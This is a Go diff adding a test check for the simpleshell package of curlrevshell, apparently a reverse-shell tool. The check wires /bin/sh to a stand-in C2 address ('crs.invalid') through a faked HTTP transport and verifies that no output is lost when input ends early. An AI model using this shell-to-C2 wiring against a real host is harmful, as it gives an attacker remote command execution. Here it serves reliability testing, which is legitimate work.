@@ -10,13 +10,16 @@ package checks
  */
 
 import (
+	"bytes"
 	"context"
 	"fmt"
 	"io"
 	"net/http"
 	"net/http/httptest"
 	"os/exec"
+	"strings"
 	"sync"
+	"testing/iotest"
 	"time"
 
 	"github.com/magisterquis/curlrevshell/lib/simpleshell"
@@ -114,4 +117,72 @@ func c14GoSeam(r *ev.Result) {
 	r.AddDistinct(n)
 	r.Traces += n
 	r.Set("go_end_to_end_sessions", n)
+	c14GoEndOfInput(r)
+}
+
+type c14RT func(*http.Request) (*http.Response, error)
+
+func (f c14RT) RoundTrip(req *http.Request) (*http.Response, error) { return f(req) }
+
+// c14GoEndOfInput: simpleshell.Go over a transport of the harness (no pin, so
+// Go uses http.DefaultTransport) whose response body - the command's input -
+// ends while the command still has output to write.  The input is a script
+// for /bin/sh, so lost input shows as lost output; it arrives in every shape a
+// reader may use (the end reported separately, together with the last bytes, a
+// byte at a time).  Everything written after the end of input must still
+// arrive before the output stream ends, and Go must report success.
+func c14GoEndOfInput(r *ev.Result) {
+	const script = "echo first; sleep 0.2; echo last; echo err >&2; sleep 0.1; echo done\n"
+	const want = "first\nlast\nerr\ndone\n"
+	const wantOut = "first\nlast\ndone\n"
+	shapes := []struct {
+		name string
+		mk   func() io.Reader
+	}{
+		{"eof-separately", func() io.Reader { return strings.NewReader(script) }},
+		{"eof-with-last-bytes", func() io.Reader { return iotest.DataErrReader(strings.NewReader(script)) }},
+		{"byte-at-a-time", func() io.Reader { return iotest.OneByteReader(strings.NewReader(script)) }},
+		{"byte-at-a-time-eof-with-last", func() io.Reader { return iotest.DataErrReader(iotest.OneByteReader(strings.NewReader(script))) }},
+		{"half-reads", func() io.Reader { return iotest.HalfReader(strings.NewReader(script)) }},
+	}
+	old := http.DefaultTransport
+	defer func() { http.DefaultTransport = old }()
+	n := 0
+	for _, sh := range shapes {
+		var (
+			got bytes.Buffer
+			wg  sync.WaitGroup
+		)
+		http.DefaultTransport = c14RT(func(req *http.Request) (*http.Response, error) {
+			wg.Add(1)
+			go func() { defer wg.Done(); io.Copy(&got, req.Body); req.Body.Close() }()
+			return &http.Response{StatusCode: 200, Body: io.NopCloser(sh.mk()), Request: req}, nil
+		})
+		cs, err := simpleshell.NewCmdShell(exec.Command("/bin/sh"))
+		if nil != err {
+			ev.Broken("%s", err)
+		}
+		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+		goErr := simpleshell.Go(ctx, simpleshell.ConnConfig{C2: "http://crs.invalid/io"}, cs)
+		wg.Wait()
+		cancel()
+		v := func(sig, what string) {
+			r.Violate(ev.Violation{Signature: "go/" + sig + "/" + sh.name, Kind: "c14go-eoi", Replay: map[string]any{"shape": sh.name},
+				What: fmt.Sprintf("simpleshell.Go with /bin/sh, the input stream carrying %q and then ending (%s) while the script still has output to write: %s", script, sh.name, what)})
+		}
+		/* The two descriptors are relayed independently: order is promised
+		per stream only. */
+		stdout := strings.Replace(got.String(), "err\n", "", 1)
+		switch {
+		case stdout != wantOut || len(got.String()) != len(want):
+			v("output-lost-after-end-of-input", fmt.Sprintf("the output stream carried %q instead of %q (the line err anywhere); Go returned %v", got.String(), want, goErr))
+		case nil != goErr:
+			v("success-reported-as-error", fmt.Sprintf("everything arrived, Go returned %v", goErr))
+		}
+		n++
+	}
+	r.Add(n)
+	r.AddDistinct(n)
+	r.Traces += n
+	r.Set("go_end_of_input_sessions", n)
 }
